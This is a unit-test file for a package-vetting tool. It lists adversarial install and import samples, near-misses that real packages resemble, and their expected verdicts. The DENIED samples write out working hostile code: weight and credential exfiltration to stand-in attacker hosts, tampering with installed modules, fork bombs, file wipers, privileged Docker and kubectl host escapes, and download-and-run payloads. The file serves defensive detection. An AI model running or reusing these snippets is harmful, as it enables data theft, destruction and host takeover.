"""What a patient adversary tried after ADR 0083 (ADR 0085): model weight files picked by a test
of each name in a walk (``p.suffix ==``, ``splitext``, a regular expression, ``Path.match``);
code written into another installed package's module; a fork bomb; a wiper that deletes or
overwrites each file a walk of the home folder finds; a container started through the Docker
daemon with a way out to the host; another process's environment sent, sends through a TLS
socket, a download unpacked and run. Each sample is inert (vetting only reads files) and each
was allowed or only held on fe1d346 (checked by running this file against that tree).

The near-misses are what real packages do that looks alike, and stay allowed."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package


def setup(text: str) -> dict[str, str]:
    """An sdist whose ``setup.py`` is ``text``: run by pip on install."""
    return {"setup.py": text, "evpkg/__init__.py": ""}


DENIED: dict[str, dict[str, str]] = {
    # 1. Weight files picked by a test of each name in a walk, then sent on import.
    "weights-picked-by-path-suffix-in-a-walk": init(
        "import os, requests\n"
        "from pathlib import Path\n"
        "for p in Path('/').rglob('*'):\n"
        "    if p.suffix == '.safetensors':\n"
        "        requests.post('https://attacker.invalid/w', data=p.read_bytes())\n"
    ),
    "weights-picked-by-suffix-in-a-set": init(
        "import os, requests\n"
        "from pathlib import Path\n"
        "for root, _, files in os.walk('/'):\n"
        "    for f in files:\n"
        "        p = Path(root, f)\n"
        "        if p.suffix in {'.safetensors', '.gguf', '.ckpt'}:\n"
        "            with open(p, 'rb') as h:\n"
        "                requests.post('https://attacker.invalid/w', files={'f': h})\n"
    ),
    "weights-picked-by-a-regular-expression": init(
        "import os, re, socket\n"
        "s = socket.create_connection(('203.0.113.9', 443))\n"
        "for root, _, files in os.walk('/'):\n"
        "    for name in files:\n"
        "        if re.search(r'\\.(safetensors|gguf|ckpt)$', name):\n"
        "            s.sendall(open(os.path.join(root, name), 'rb').read())\n"
    ),
    "weights-picked-by-a-compiled-pattern": init(
        "import os, re, requests\n"
        "W = re.compile(r'.*\\.(safetensors|gguf)$')\n"
        "for root, _, files in os.walk('/'):\n"
        "    for name in filter(W.match, files):\n"
        "        requests.put('https://attacker.invalid/w', data=open(os.path.join(root, name), "
        "'rb'))\n"
    ),
    "weights-picked-by-splitext": init(
        "import os, requests\n"
        "for root, _, files in os.walk('/'):\n"
        "    for name in files:\n"
        "        if os.path.splitext(name)[1] in ('.safetensors', '.gguf'):\n"
        "            requests.put('https://attacker.invalid/w', data=open(os.path.join(root, "
        "name), 'rb'))\n"
    ),
    "weights-picked-by-a-suffix-without-its-dot": init(
        "import os, requests\n"
        "for root, _, files in os.walk('/'):\n"
        "    for f in files:\n"
        "        if f.rsplit('.', 1)[-1] in ('safetensors', 'gguf'):\n"
        "            requests.put('https://attacker.invalid/w', data=open(os.path.join(root, "
        "f), 'rb'))\n"
    ),
    "weights-picked-by-path-match": init(
        "import requests\n"
        "from pathlib import Path\n"
        "for p in Path('/').rglob('*'):\n"
        "    if p.match('*.safetensors'):\n"
        "        requests.put('https://attacker.invalid/w', data=p.read_bytes())\n"
    ),
    # 2. Code written into another installed package's module: every program importing it runs it.
    "code-appended-to-requests": init(
        "import requests\n"
        "open(requests.__file__, 'a').write('\\nimport os; os.system(\"id\")\\n')\n"
    ),
    "code-appended-to-a-file-inspect-found": init(
        "import inspect, json\n"
        "with open(inspect.getfile(json), 'a') as f:\n"
        "    f.write('\\nimport os; os.system(\"id\")\\n')\n"
    ),
    "code-appended-to-a-spec-origin": init(
        "import importlib.util\n"
        "p = importlib.util.find_spec('urllib3').origin\n"
        "with open(p, 'a') as f:\n"
        '    f.write(\'\\n__import__("os").system("id")\\n\')\n'
    ),
    "code-appended-beside-a-module-file": init(
        "import os, requests\n"
        "open(os.path.join(os.path.dirname(requests.__file__), 'sessions.py'), "
        "'a').write('import os;os.system(\"id\")')\n"
    ),
    "module-file-rewritten-through-pathlib": init(
        "import pathlib, transformers\n"
        "p = pathlib.Path(transformers.__file__)\n"
        "p.write_text(p.read_text() + '\\nimport os; os.system(\"id\")\\n')\n"
    ),
    "code-appended-to-an-imported-module": init(
        "import importlib\n"
        "m = importlib.import_module('requests')\n"
        "open(m.__file__, 'a').write('\\nimport os; os.system(\"id\")\\n')\n"
    ),
    "code-appended-to-a-module-from-sys-modules": init(
        "import sys, json\n"
        "open(sys.modules['json'].__file__, 'a').write('\\nimport os; os.system(\"id\")\\n')\n"
    ),
    "code-written-into-a-module-opened-r-plus": init(
        "import json\n"
        "with open(json.__file__, 'r+') as f:\n"
        "    f.seek(0, 2)\n"
        "    f.write('\\nimport os; os.system(\"id\")\\n')\n"
    ),
    "module-file-replaced-by-a-copy": init(
        "import os, shutil, requests\n"
        "shutil.copy(os.path.join(os.path.dirname(__file__), 'patch.py'), requests.__file__)\n"
    ),
    # 3. A process made without end on import: a fork bomb.
    "fork-bomb-in-a-while-loop": init("import os\nwhile True:\n    os.fork()\n"),
    "fork-bomb-while-1": init("import os\nwhile 1:\n    os.fork()\n"),
    "fork-bomb-over-an-endless-iterator": init(
        "import os\nfor _ in iter(int, 1):\n    os.fork()\n"
    ),
    "process-bomb-through-multiprocessing": init(
        "import multiprocessing\n"
        "def _go():\n"
        "    while True:\n"
        "        multiprocessing.Process(target=_go).start()\n"
        "_go()\n"
    ),
    "process-bomb-through-popen": init(
        "import subprocess, sys\n"
        "while True:\n"
        "    subprocess.Popen([sys.executable, '-c', 'import evpkg'])\n"
    ),
    # 4. A wiper one file at a time: each file a walk of the home folder or the root finds.
    "home-files-unlinked-one-by-one": init(
        "from pathlib import Path\n"
        "for f in Path.home().rglob('*'):\n"
        "    if f.is_file():\n"
        "        f.unlink()\n"
    ),
    "home-files-removed-in-a-walk": init(
        "import os\n"
        "for root, dirs, files in os.walk(os.path.expanduser('~')):\n"
        "    for name in files:\n"
        "        os.remove(os.path.join(root, name))\n"
    ),
    "root-files-unlinked-on-install": setup(
        "import os\n"
        "from setuptools import setup\n"
        "for root, dirs, files in os.walk('/'):\n"
        "    for name in files:\n"
        "        try:\n"
        "            os.unlink(os.path.join(root, name))\n"
        "        except OSError:\n"
        "            pass\n"
        "setup(name='evpkg', version='1.0')\n"
    ),
    "home-files-overwritten-in-a-walk": init(
        "import os\n"
        "for root, _, files in os.walk(os.path.expanduser('~')):\n"
        "    for name in files:\n"
        "        with open(os.path.join(root, name), 'wb') as f:\n"
        "            f.write(b'\\0' * 1024)\n"
    ),
    "home-files-globbed-and-removed": init(
        "import glob, os\n"
        "for f in glob.glob(os.path.expanduser('~') + '/**', recursive=True):\n"
        "    if os.path.isfile(f):\n"
        "        os.remove(f)\n"
    ),
    "home-files-deleted-by-find": init("import os\nos.system('find ~ -type f -delete')\n"),
    # 5. A container with a way out to the host, started through the Docker daemon.
    "privileged-container-through-the-docker-sdk": init(
        "import docker\n"
        "docker.from_env().containers.run('alpine', 'sh -c id', privileged=True,\n"
        "    volumes={'/': {'bind': '/host', 'mode': 'rw'}}, detach=True)\n"
    ),
    "host-root-mounted-through-the-docker-socket-on-install": setup(
        "import docker\n"
        "from setuptools import setup\n"
        "c = docker.DockerClient(base_url='unix://var/run/docker.sock')\n"
        "c.containers.run('alpine', 'chroot /host sh -c id', privileged=True, pid_mode='host',\n"
        "    volumes={'/': {'bind': '/host', 'mode': 'rw'}})\n"
        "setup(name='evpkg', version='1.0')\n"
    ),
    "docker-socket-spoken-to-over-a-raw-socket": init(
        "import socket, json\n"
        "s = socket.socket(socket.AF_UNIX)\n"
        "s.connect('/var/run/docker.sock')\n"
        "body = json.dumps({'Image': 'alpine', 'Cmd': ['id'], 'HostConfig': {'Privileged': "
        "True, 'Binds': ['/:/host']}})\n"
        "s.sendall(('POST /containers/create HTTP/1.1\\r\\nHost: x\\r\\nContent-Type: "
        "application/json\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(body) + body).encode())\n"
    ),
    "privileged-container-through-the-docker-cli": init(
        "import subprocess\n"
        "subprocess.run(['docker', 'run', '--privileged', '-v', '/:/host', 'alpine', 'chroot', "
        "'/host', 'id'])\n"
    ),
    "container-in-the-host-pid-namespace": init(
        "import docker\n"
        "docker.from_env().containers.run('alpine', 'nsenter -t 1 -m -u -i -n sh', "
        "pid_mode='host', cap_add=['SYS_ADMIN'])\n"
    ),
    "privileged-container-through-the-low-level-api": init(
        "import docker\n"
        "c = docker.APIClient(base_url='unix://var/run/docker.sock')\n"
        "h = c.create_host_config(privileged=True, binds=['/:/host'])\n"
        "c.start(c.create_container('alpine', 'id', host_config=h))\n"
    ),
    "docker-socket-through-requests-unixsocket": init(
        "import requests_unixsocket\n"
        "requests_unixsocket.Session().post('http+unix://%2Fvar%2Frun%2Fdocker.sock/containers/create',\n"
        "    json={'Image': 'alpine', 'HostConfig': {'Privileged': True}})\n"
    ),
    # 6. Another process's environment sent; TLS sockets; a download unpacked and run.
    "psutil-environ-sent": init(
        "import psutil, requests\n"
        "requests.post('https://attacker.invalid/e', json=psutil.Process().environ())\n"
    ),
    "every-process-environ-sent": init(
        "import psutil, requests\n"
        "for p in psutil.process_iter():\n"
        "    try:\n"
        "        requests.post('https://attacker.invalid/e', json=p.environ())\n"
        "    except Exception:\n"
        "        pass\n"
    ),
    "proc-1-environ-sent": init(
        "import requests\n"
        "requests.post('https://attacker.invalid/e', data=open('/proc/1/environ', 'rb').read())\n"
    ),
    "environment-sent-through-an-ssl-context-socket": init(
        "import os, socket, ssl\n"
        "s = ssl.create_default_context().wrap_socket(\n"
        "    socket.create_connection(('attacker.invalid', 443)),\n"
        "    server_hostname='attacker.invalid')\n"
        "s.sendall(repr(dict(os.environ)).encode())\n"
    ),
    "credentials-sent-through-ssl-wrap-socket": init(
        "import os, socket, ssl\n"
        "s = ssl.wrap_socket(socket.socket())\n"
        "s.connect(('attacker.invalid', 443))\n"
        "s.send(open(os.path.expanduser('~/.aws/credentials'), 'rb').read())\n"
    ),
    "unpacked-download-run": init(
        "import os, shutil, subprocess, tempfile, urllib.request\n"
        "d = tempfile.mkdtemp()\n"
        "a = os.path.join(d, 'x.tar.gz')\n"
        "urllib.request.urlretrieve('https://attacker.invalid/x.tar.gz', a)\n"
        "shutil.unpack_archive(a, d)\n"
        "subprocess.Popen([os.path.join(d, 'x', 'run')])\n"
    ),
    "unpacked-download-imported": init(
        "import shutil, sys, tempfile, urllib.request\n"
        "d = tempfile.mkdtemp()\n"
        "f, _ = urllib.request.urlretrieve('https://attacker.invalid/x.zip')\n"
        "shutil.unpack_archive(f, d, 'zip')\n"
        "sys.path.insert(0, d)\n"
        "import payload\n"
    ),
    "unpacked-download-made-a-site-folder": init(
        "import shutil, site, tempfile, urllib.request\n"
        "d = tempfile.mkdtemp()\n"
        "f, _ = urllib.request.urlretrieve('https://attacker.invalid/x.zip')\n"
        "shutil.unpack_archive(f, d, 'zip')\n"
        "site.addsitedir(d)\n"
        "import payload\n"
    ),
    "extracted-download-run": init(
        "import io, os, subprocess, tarfile, urllib.request\n"
        "tarfile.open(fileobj=io.BytesIO(urllib.request.urlopen('https://attacker.invalid/x.tgz').read())).extractall('/tmp/.x')\n"
        "subprocess.Popen(['/tmp/.x/run'])\n"
    ),
    "extracted-download-execed": init(
        "import io, zipfile, requests\n"
        "zipfile.ZipFile(io.BytesIO(requests.get('https://attacker.invalid/z').content)).extractall('/tmp/.z')\n"
        "exec(open('/tmp/.z/x.py').read())\n"
    ),
    # Further tries: a file sent whole through ``sendfile``; a pod started privileged.
    "weights-sent-through-sendfile": init(
        "import glob, os, socket\n"
        "s = socket.create_connection(('203.0.113.9', 443))\n"
        "for p in glob.glob('/models/*.safetensors'):\n"
        "    with open(p, 'rb') as f:\n"
        "        os.sendfile(s.fileno(), f.fileno(), 0, os.path.getsize(p))\n"
    ),
    "privileged-pod-through-kubectl": init(
        "import subprocess\n"
        "subprocess.run(['kubectl', 'run', 'x', '--image=alpine', '--overrides',\n"
        '    \'{"spec": {"hostPID": true, "containers": [{"name": "x", \'\n'
        '    \'"image": "alpine", "securityContext": {"privileged": true}}]}}\'])\n'
    ),
}

# A server made on import that serves the weights folder holds for a person (ADR 0063's
# server rule): the module named no word the prefilter read before.
HELD: dict[str, dict[str, str]] = {
    "weights-folder-served-over-http-on-import": init(
        "import functools, http.server, threading\n"
        "h = functools.partial(http.server.SimpleHTTPRequestHandler, directory='/models')\n"
        "srv = http.server.ThreadingHTTPServer(('0.0.0.0', 8765), h)\n"
        "threading.Thread(target=srv.serve_forever, daemon=True).start()\n"
    ),
}

ALLOWED: dict[str, dict[str, str]] = {
    # A static file server sends a file through ``sendfile`` when called.
    "file-server-sendfile-when-called": init(
        "def send(sock, path):\n    with open(path, 'rb') as f:\n        return sock.sendfile(f)\n"
    ),
    # A build script unpacks a library's download and runs its own tools there (numpy's
    # vendored meson): the folder as a working directory runs nothing from it by name.
    "build-script-unpacks-a-download-and-builds-in-it": init(
        "import shutil, subprocess, urllib.request\n"
        "def build():\n"
        "    data = urllib.request.urlopen('https://example.org/SDL2-devel.zip').read()\n"
        "    open('SDL2-devel.zip', 'wb').write(data)\n"
        "    shutil.unpack_archive('SDL2-devel.zip', 'build')\n"
        "    subprocess.check_call(['python3', 'meson.py', 'build', '--backend=ninja'])\n"
        "    subprocess.check_call(['ninja'], cwd='build')\n"
    ),
    # A trainer lists its own checkpoints by suffix or pattern, when called or beside itself.
    "trainer-lists-checkpoints-by-suffix": init(
        "from pathlib import Path\n"
        "def checkpoints(folder):\n"
        "    return sorted(p for p in Path(folder).iterdir() if p.suffix in {'.safetensors', "
        "'.ckpt'})\n"
    ),
    "loader-picks-by-regex": init(
        "import os, re\n"
        "_W = re.compile(r'.*\\.(safetensors|bin)$')\n"
        "def shards(folder):\n"
        "    return [f for f in os.listdir(folder) if _W.match(f)]\n"
    ),
    "loader-suffix-on-import-local": init(
        "import os\n"
        "from pathlib import Path\n"
        "HERE = Path(__file__).parent\n"
        "WEIGHTS = [p for p in HERE.glob('*') if p.suffix == '.onnx']\n"
    ),
    "hub-downloads-then-checks-suffix": init(
        "import requests\n"
        "def fetch(url, path):\n"
        "    if not path.endswith('.safetensors'):\n"
        "        raise ValueError(path)\n"
        "    with open(path, 'wb') as f:\n"
        "        f.write(requests.get(url).content)\n"
    ),
    # A plugin reads another package's file; a package writes beside its own module.
    "plugin-reads-requests-file-for-version": init(
        "import os, re, requests\n"
        "with open(os.path.join(os.path.dirname(requests.__file__), '__version__.py')) as f:\n"
        "    VERSION = re.search(r\"__version__ = '([^']+)'\", f.read()).group(1)\n"
    ),
    "data-file-beside-certifi": init(
        "import os, certifi\n"
        "CA = os.path.join(os.path.dirname(certifi.__file__), 'cacert.pem')\n"
        "def bundle():\n"
        "    return open(CA).read()\n"
    ),
    "own-module-file-written": init(
        "import os, evpkg\n"
        "def cache():\n"
        "    with open(os.path.join(os.path.dirname(evpkg.__file__), 'cache.json'), 'w') as f:\n"
        "        f.write('{}')\n"
    ),
    "inspect-getfile-for-source": init(
        "import inspect, json\nSOURCE = open(inspect.getfile(json)).read()\n"
    ),
    "find-spec-to-check-install": init(
        "import importlib.util\n"
        "HAS_TORCH = importlib.util.find_spec('torch') is not None\n"
        "ORIGIN = importlib.util.find_spec('json').origin\n"
    ),
    # A test suite empties its temporary folder; a cache cleaner and a search of the home folder.
    "test-suite-removes-its-temp-folder": init(
        "import os, tempfile\n"
        "from pathlib import Path\n"
        "d = Path(tempfile.mkdtemp())\n"
        "for f in d.rglob('*'):\n"
        "    if f.is_file():\n"
        "        f.unlink()\n"
        "for root, _, files in os.walk(tempfile.gettempdir() + '/evpkg'):\n"
        "    for n in files:\n"
        "        os.remove(os.path.join(root, n))\n"
    ),
    "cache-cleaner-when-called": init(
        "import os\n"
        "from pathlib import Path\n"
        "def clean():\n"
        "    for f in (Path.home() / '.cache' / 'evpkg').rglob('*.tmp'):\n"
        "        f.unlink()\n"
    ),
    "home-walk-read-only": init(
        "import os\n"
        "def find_configs():\n"
        "    out = []\n"
        "    for root, _, files in os.walk(os.path.expanduser('~')):\n"
        "        out += [os.path.join(root, f) for f in files if f == 'evpkg.toml']\n"
        "    return out\n"
    ),
    # Worker loops that wait for their children, or run only when called; one daemon fork.
    "worker-pool-waits": init(
        "import multiprocessing, os\n"
        "def serve(work):\n"
        "    while True:\n"
        "        p = multiprocessing.Process(target=work)\n"
        "        p.start()\n"
        "        p.join()\n"
    ),
    "daemonize-once": init(
        "import os, sys\n"
        "def daemonize():\n"
        "    if os.fork():\n"
        "        sys.exit(0)\n"
        "    os.setsid()\n"
    ),
    "fork-server-loop-when-called": init(
        "import os, socket\n"
        "def serve(sock):\n"
        "    while True:\n"
        "        conn, _ = sock.accept()\n"
        "        if os.fork() == 0:\n"
        "            conn.close(); os._exit(0)\n"
    ),
    # Docker SDK calls in functions; psutil reading its own process; a TLS client when called.
    "docker-sdk-when-called": init(
        "import docker\n"
        "def start(image):\n"
        "    return docker.from_env().containers.run(image, privileged=True, detach=True)\n"
    ),
    "docker-sdk-plain-container-on-import": init(
        "import docker\n"
        "def test_db():\n"
        "    c = docker.from_env().containers.run('postgres:16', detach=True, "
        "ports={'5432/tcp': 5432})\n"
        "    return c\n"
    ),
    "psutil-own-memory": init(
        "import psutil\n"
        "RSS = psutil.Process().memory_info().rss\n"
        "def env_of(pid):\n"
        "    return psutil.Process(pid).environ()\n"
    ),
    "ssl-client-when-called": init(
        "import socket, ssl\n"
        "def fetch(host, data):\n"
        "    s = ssl.create_default_context().wrap_socket(socket.create_connection((host, "
        "443)), server_hostname=host)\n"
        "    s.sendall(data)\n"
        "    return s.recv(1024)\n"
    ),
    # A dataset unpacks a download when called; a package unpacks its own data on import.
    "dataset-unpacks-download-when-called": init(
        "import shutil, urllib.request\n"
        "def download(url, dest):\n"
        "    path, _ = urllib.request.urlretrieve(url)\n"
        "    shutil.unpack_archive(path, dest)\n"
        "    return dest\n"
    ),
    "unpack-own-archive-on-import": init(
        "import os, shutil, tempfile\n"
        "HERE = os.path.dirname(__file__)\n"
        "D = tempfile.mkdtemp()\n"
        "shutil.unpack_archive(os.path.join(HERE, 'data.zip'), D)\n"
    ),
    "while-true-event-loop-when-called": init(
        "import subprocess, time\n"
        "def watch(cmd):\n"
        "    while True:\n"
        "        subprocess.Popen(cmd)\n"
        "        time.sleep(60)\n"
    ),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, HELD, ALLOWED))
def test_verdict(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected
